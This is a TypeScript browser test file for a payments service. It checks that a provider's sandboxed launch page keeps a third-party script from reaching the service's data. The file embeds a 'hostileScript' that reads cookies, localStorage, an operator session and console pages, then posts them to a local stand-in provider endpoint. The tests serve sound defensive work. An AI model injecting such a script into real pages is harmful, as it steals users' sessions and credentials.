import { once } from "node:events";
import { createServer, type RequestListener, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { text } from "node:stream/consumers";

import { sandboxWindowPage } from "@wonflow/sandbox";
import type { Page } from "playwright-core";
import { afterEach, expect, test } from "vitest";
import { createHandler, createPayments, memoryStore, nodeListener, sandboxGateway } from "../../src/index.ts";
import { browser, useBrowser } from "./browser-and-service.ts";
import { openBuyerPage } from "./buyer-page.ts";

useBrowser();

const shop = { mId: 7, mode: "test" } as const;
const password = "four words are better";

/** A provider's script that takes whatever it reaches, and then opens the provider's window as it should. */
const hostileScript = `globalThis.hostile = async ({ service, provider, windowUrl }) => {
  const read = (path) => fetch(service + path, { credentials: "include" }).then((response) => response.text());
  const framed = () => new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.onload = () => resolve(frame.contentDocument?.body?.textContent);
    frame.src = service + "/console";
    document.body.append(frame);
    setTimeout(resolve, 3000);
  });
  const tries = {
    cookie: () => document.cookie,
    storage: () => localStorage.getItem("kept"),
    worker: () => navigator.serviceWorker.getRegistrations().then(() => "allowed"),
    console: () => read("/console"),
    session: () => read("/operator/session"),
    checkout: () => read("/checkout/session?token=none"),
    opener: () => window.opener && window.opener.document.title,
    parent: () => window.parent !== window && window.parent.document.title,
    link: () => fetch(location.href + "/returned", { credentials: "include" }).then((response) => response.url),
    framed,
    popup: () => window.open(service + "/shop")?.document.title,
  };
  const taken = {};
  for (const [name, reach] of Object.entries(tries)) {
    try {
      const found = await reach();
      if (found) taken[name] = String(found).slice(0, 40);
    } catch {}
  }
  await fetch(provider + "/taken", { method: "POST", mode: "no-cors", body: JSON.stringify(taken) });
  if (windowUrl !== undefined) location.href = windowUrl;
};`;

const servers: Server[] = [];

afterEach(() => {
  for (const server of servers.splice(0)) {
    server.closeAllConnections();
    server.close();
  }
});

async function listen(): Promise<{ readonly server: Server; readonly port: number }> {
  const server = createServer().listen(0, "127.0.0.1");
  servers.push(server);
  await once(server, "listening");
  return { server, port: (server.address() as AddressInfo).port };
}

/** A service whose gateway opens its window by the hostile script of a provider on another site. */
async function openAttacked(hasOwnOrigin: boolean) {
  const { server, port } = await listen();
  const { server: provider, port: providerPort } = await listen();
  const url = `http://127.0.0.1:${port}`;
  const providerUrl = `http://localhost:${providerPort}`;
  const { window, ...gateway } = await sandboxGateway({ windowUrl: `${providerUrl}/window` });
  if (window === undefined) throw new Error("the sandbox has no window");
  const payments = createPayments({
    store: memoryStore(),
    gateways: {
      test: {
        ...gateway,
        window: {
          ...window,
          async begin(request) {
            const begun = await window.begin(request);
            if (begun.outcome !== "done") return begun;
            const fields = { service: url, provider: providerUrl, windowUrl: begun.value.open.url };
            const launcher = "(fields) => hostile(fields)";
            const open = { kind: "script", url: `${providerUrl}/hostile.js`, launcher, fields } as const;
            return { outcome: "done", value: { ...begun.value, open } };
          },
        },
      },
    },
    secret: "s".repeat(32),
    settings: {
      checkoutUrl: `${url}/checkout`,
      windowUrl: hasOwnOrigin ? `http://localhost:${port}/windows` : null,
    },
  });
  await payments.merchants.register({ ...shop, name: "상점", feeRate: "3.3", contracts: { methods: ["KAKAOPAY"] } });
  await payments.operators.set(shop, { name: "owner", password, role: "owner" });
  const service = nodeListener(createHandler(payments, { rateLimits: "off", console: true }));
  // The host application has pages on the service's own origin.
  server.on("request", (request, response) => {
    if (request.url?.startsWith("/shop") !== true) service(request, response);
    else response.setHeader("Content-Type", "text/html").end("<title>host</title><h1>host</h1>");
  });
  const taken: unknown[] = [];
  const page = sandboxWindowPage(gateway);
  provider.on(
    "request",
    providerOf(
      taken,
      nodeListener((request) => page(request)),
    ),
  );
  return { url, providerUrl, payments, taken };
}

function providerOf(taken: unknown[], windowPage: RequestListener): RequestListener {
  return (request, response) => {
    if (request.url === "/hostile.js") response.setHeader("Content-Type", "text/javascript").end(hostileScript);
    else if (request.url !== "/taken") windowPage(request, response);
    else {
      void text(request).then((body) => {
        taken.push(JSON.parse(body));
        response.end();
      });
    }
  };
}

type Attacked = Awaited<ReturnType<typeof openAttacked>>;

/** A browser with everything that a script could take: cookies, stored data, and an operator's session. */
async function richPage({ url }: Attacked): Promise<Page> {
  const { page, context } = await openBuyerPage(browser);
  await context.addCookies([{ name: "host_session", value: "secret", url }]);
  const signedIn = await context.request.post(`${url}/operator/session`, {
    headers: { Origin: url },
    data: { ...shop, name: "owner", password },
  });
  expect(signedIn.status()).toBe(200);
  await page.goto(`${url}/shop`);
  await page.evaluate(() => localStorage.setItem("kept", "secret"));
  return page;
}

async function openWindow({ payments, url }: Attacked): Promise<string> {
  const session = await payments.sessions.create(shop, {
    customerId: "browser-test-buyer",
    orderId: "order-20261120-0001",
    orderName: "우전 녹차 세트 100g",
    amount: { value: 50_000 },
    methods: ["KAKAOPAY"],
    successUrl: `${url}/shop/ok`,
    failUrl: `${url}/shop/fail`,
  });
  if (!session.ok) throw new Error(JSON.stringify(session.error));
  const opened = await payments.checkout.openWindow(session.value.token, { method: "KAKAOPAY", device: "MOBILE" });
  if (!opened.ok || !("windowUrl" in opened.value)) throw new Error("the window does not open");
  return opened.value.windowUrl;
}

test("the script takes all of it on a page of the service's origin, so that its tries are good ones", async () => {
  const attacked = await openAttacked(false);
  const page = await richPage(attacked);
  await page.addScriptTag({ url: `${attacked.providerUrl}/hostile.js` });
  const { url: service, providerUrl: provider } = attacked;
  await page.evaluate(`hostile(${JSON.stringify({ service, provider })})`);
  await expect.poll(() => attacked.taken.length).toBe(1);
  expect(attacked.taken[0]).toMatchObject({
    cookie: expect.stringContaining("host_session=secret"),
    storage: "secret",
    worker: "allowed",
    console: expect.stringContaining("<!doctype html>"),
    session: expect.stringContaining("{"),
    checkout: expect.stringContaining("{"),
  });
});

test.each([
  ["without an origin", false],
  ["with an origin of its own", true],
])("on a launch page %s it reaches nothing, and still opens the window", async (_how, hasOwnOrigin) => {
  const attacked = await openAttacked(hasOwnOrigin);
  const host = await richPage(attacked);
  const windowUrl = await openWindow(attacked);
  // Opened by a page of the service, the launch page has an opener to reach for.
  const [launched] = await Promise.all([
    host.context().waitForEvent("page"),
    host.evaluate((url) => void window.open(url), windowUrl),
  ]);
  await launched.waitForURL(`${attacked.providerUrl}/window?*`);
  expect(attacked.taken).toEqual([hasOwnOrigin ? { worker: "allowed" } : {}]);
  await launched.click("button[value=succeed]");
  await launched.waitForURL(`${attacked.url}/shop/ok?*`);
  expect(new URL(launched.url()).searchParams.get("orderId")).toBe("order-20261120-0001");
});
